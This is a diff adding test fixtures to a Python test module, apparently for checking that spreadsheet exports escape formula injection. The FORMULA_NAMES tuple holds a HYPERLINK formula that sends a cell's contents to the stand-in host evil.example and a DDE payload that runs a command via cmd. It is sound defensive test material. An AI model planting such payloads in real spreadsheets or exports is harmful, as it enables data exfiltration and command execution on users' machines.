@@ -985,3 +985,44 @@ def flag_zip(name: str, content: bytes, *, flag_bits: int = 0, method: int | Non
         if method is not None:
             struct.pack_into("<H", data, at + method_at, method)
     return bytes(data)
+
+
+FORMULA_NAMES = (
+    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
+    "=cmd|' /C calc'!A0",
+    "+1",
+    "-x",
+    "@x",
+    "'引号开头",
+)
+"""Names a spreadsheet would run as formulas, and one beginning with ``'`` (the quote itself)."""
+
+
+def formula_scenario() -> Scenario:
+    """:func:`tiny_scenario` with every kind of text cell spelled like a formula.
+
+    The four titles, two bases, two crews and an actor take the names of
+    :data:`FORMULA_NAMES` (in turn); the scenario name, a title's ``platform``
+    cell, an extra column's name (``@列``), the unavailability note and an extra
+    setting (key and value) begin with ``=``, ``+``, ``-`` or ``@`` too.
+    """
+    base = tiny_scenario()
+    names = iter(FORMULA_NAMES * 2)
+    titles = tuple(
+        replace(t, name=next(names), extra={"platform": f"={t.title_id}", "@列": "-1"})
+        for t in base.titles
+    )
+    bases = tuple(replace(b, name=next(names)) for b in base.bases)
+    crews = tuple(replace(c, name=next(names)) for c in base.crews)
+    actors = (replace(base.actors[0], name=next(names)), *base.actors[1:])
+    unavailable = tuple(replace(u, note="+请假") for u in base.unavailable)
+    return replace(
+        base,
+        name="=场景名",
+        titles=titles,
+        bases=bases,
+        crews=crews,
+        actors=actors,
+        unavailable=unavailable,
+        settings_extra={"-备注": "=1+1", "版本": 3},
+    )
